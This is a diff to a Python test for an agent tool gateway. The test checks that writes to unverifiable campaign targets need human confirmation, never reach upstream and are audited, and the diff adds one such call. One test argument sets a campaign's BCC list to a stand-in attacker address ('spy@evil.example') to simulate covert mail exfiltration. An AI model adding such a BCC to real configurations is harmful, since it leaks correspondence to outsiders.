@@ -88,14 +88,15 @@ def test_live_target_that_cannot_be_checked_is_gated(transport: str, sandbox, tm
                 ("create_lead", {"campaign": "c-unknown", "email": "b@prospect.test"}),
                 ("move_lead_to_subsequence", {"subsequence_id": "s-unknown", "id": "l-1"}),
                 ("update_campaign", {"id": "c-unknown", "bcc_list": ["spy@evil.example"]}),
+                ("update_campaign_subsequence", {"id": "s-unknown", "name": "renamed"}),
             ):
                 statuses.append(body(await attack.call(name, arguments))["status"])
             return statuses, attack.upstream(), attack.audit()
 
     statuses, upstream, audit = anyio.run(run)
-    assert statuses == ["confirmation_required"] * 4
+    assert statuses == ["confirmation_required"] * 5
     assert upstream == []  # not even the lookup: get_campaign is hidden from this agent
-    assert [line["decision"] for line in audit] == ["confirmation_required"] * 4
+    assert [line["decision"] for line in audit] == ["confirmation_required"] * 5
 
 
 @pytest.mark.parametrize("transport", TRANSPORTS)
